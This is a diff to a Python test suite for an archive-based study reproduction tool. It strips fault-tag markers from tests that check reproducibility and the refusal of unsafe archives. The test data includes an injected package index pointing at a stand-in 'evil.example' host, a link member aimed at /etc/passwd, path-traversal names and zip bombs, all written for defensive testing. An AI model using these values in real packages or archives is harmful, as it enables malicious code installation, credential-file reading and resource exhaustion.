@@ -118,7 +118,6 @@ def remade(place: Path, name: str, out: Path, **changed: bytes | None) -> Path:
 
 
 @pytest.mark.long  # in every run: studies with more in them, test_reproduce
-@pytest.mark.fault("F40")
 def test_reproduced_to_the_last_bit(place: Path, kind: str) -> None:
     before = sorted(place.iterdir())
     code, said = call("reproduce", place / f"{kind}.zip", "--workers", "1")
@@ -143,7 +142,6 @@ def test_a_study_that_draws_its_parameters_is_reproduced_with_its_draws(place: P
     assert code == 0 and drawn.digest in said, said
 
 
-@pytest.mark.fault("F40")
 def test_the_same_study_gives_the_same_bytes(place: Path, kind: str, tmp_path: Path) -> None:
     """Packaged twice; and a run made again in other blocks, with another command line."""
     again = package(place / kind, tmp_path / "again.zip")
@@ -279,7 +277,6 @@ def test_last_digits_of_another_processor(place: Path, kind: str, tmp_path: Path
 EVIL = b"--index-url https://evil.example/index\nbalance-sim\n"
 
 
-@pytest.mark.fault("F41")
 @pytest.mark.parametrize(
     ("about", "changed", "said"),
     [
@@ -313,7 +310,6 @@ def test_a_study_of_another_version_is_refused(place, kind, tmp_path) -> None:
     assert [p.name for p in tmp_path.iterdir()] == ["old.zip"]
 
 
-@pytest.mark.fault("F41")
 def test_json_and_tables_that_unpack_to_gigabytes_are_refused(place, tmp_path, monkeypatch) -> None:
     """Brackets in an archive, or a shard of very many equal rows: counted before they are unpacked."""
     monkeypatch.setattr(members, "MOST_VALUES", 4_000)
@@ -365,7 +361,6 @@ HOSTILE = [
 ]  # fmt: skip
 
 
-@pytest.mark.fault("F41")
 @pytest.mark.parametrize("name", HOSTILE, ids=lambda name: repr(name)[:20])
 def test_no_name_leads_out_of_the_folder(name: str, tmp_path: Path) -> None:
     path = raw(tmp_path / "bad.zip", [("package.json", b"{}"), (name, b"x")])
@@ -374,7 +369,6 @@ def test_no_name_leads_out_of_the_folder(name: str, tmp_path: Path) -> None:
     assert [p.name for p in tmp_path.iterdir()] == ["bad.zip"]
 
 
-@pytest.mark.fault("F41")
 @pytest.mark.parametrize("kind", [stat.S_IFLNK, stat.S_IFIFO, stat.S_IFCHR, stat.S_IFDIR])
 def test_no_links_and_no_devices(kind: int, tmp_path: Path) -> None:
     path = raw(tmp_path / "bad.zip", [("package.json", b"{}"), (link("a", kind), b"/etc/passwd")])
@@ -383,7 +377,6 @@ def test_no_links_and_no_devices(kind: int, tmp_path: Path) -> None:
     assert [p.name for p in tmp_path.iterdir()] == ["bad.zip"]
 
 
-@pytest.mark.fault("F41")
 def test_ten_gigabytes_of_zeros_are_refused_before_anything_is_written(tmp_path: Path) -> None:
     """A real archive of them, ten megabytes small, is not unpacked; a file as large as it says is not read."""
     piece = zlib.compressobj(9, zlib.DEFLATED, -15)
@@ -408,7 +401,6 @@ def test_ten_gigabytes_of_zeros_are_refused_before_anything_is_written(tmp_path:
     assert sorted(one.name for one in tmp_path.iterdir()) == ["sparse.zip", "zeros.zip"]
 
 
-@pytest.mark.fault("F41")
 def test_bombs_are_refused_before_they_burst(tmp_path: Path, monkeypatch) -> None:
     """Ten gigabytes of zeros as the directory declares them; a bomb that lies about its size; many members."""
     path = raw(tmp_path / "zeros.zip", [("zeros", bytes(8 << 20))])
